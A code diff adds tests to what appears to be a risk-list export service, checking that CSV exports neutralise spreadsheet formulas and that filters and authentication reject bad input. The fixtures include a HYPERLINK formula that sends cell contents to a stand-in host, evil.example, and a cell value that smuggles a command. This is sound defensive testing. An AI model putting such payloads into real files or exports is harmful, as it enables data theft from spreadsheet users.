@@ -94,6 +94,33 @@ describe('risk entries', () => {
   });
 });
 
+describe('spreadsheet safety', () => {
+  it('a cell that a spreadsheet would read as a formula is written with a leading apostrophe', async () => {
+    const result = await t.gql(`mutation($input: PublishRiskListInput!) { publishRiskList(input: $input) { committed } }`, {
+      input: {
+        listType: 'TAX_ARREARS', mode: 'DELTA', idempotencyKey: randomUUID(),
+        entries: [{ uscc: code(7001), enterpriseName: '=HYPERLINK("http://evil.example/?x="&A1,"点此")', riskLevel: 'RED', categories: ['FINANCIAL'], amount: '1.00', remarks: '@SUM(1+1)*cmd|', details: { taxTypes: ['增值税'] } }],
+      },
+    }, keys.TAX);
+    expect(result.data.publishRiskList.committed).toBe(true);
+    const rows = rowsOf((await download(`/export/risk-entries.csv?uscc=${code(7001)}`, keys.TAX)).text);
+    expect(rows[1][3]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点此")`);
+    expect(rows[1][9]).toBe(`'@SUM(1+1)*cmd|`);
+  });
+
+  it('time filters need their offset; a malformed USCC is refused, not an empty file', async () => {
+    const noOffset = await download('/export/risk-entries.csv?publishedFrom=2026-11-01T00:00:00', keys.TAX);
+    expect(noOffset.response.status).toBe(400);
+    const withOffset = await download(`/export/risk-entries.csv?publishedFrom=${encodeURIComponent('2026-01-01T00:00:00+08:00')}&uscc=${code(3)}`, keys.TAX);
+    expect(rowsOf(withOffset.text)).toHaveLength(2);
+    const badUscc = await download('/export/cases.csv?debtorUscc=not-a-uscc', keys.COURT);
+    expect(badUscc.response.status).toBe(400);
+    expect(JSON.parse(badUscc.text).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'debtorUscc' });
+    const unauthenticated = await download('/export/cases.csv', null);
+    expect(unauthenticated.response.headers.get('www-authenticate')).toBe('Bearer');
+  });
+});
+
 describe('cases', () => {
   it('every visible case with its monitoring points; a sensitive case only to those who may read it', async () => {
     const court = rowsOf((await download('/export/cases.csv', keys.COURT)).text);
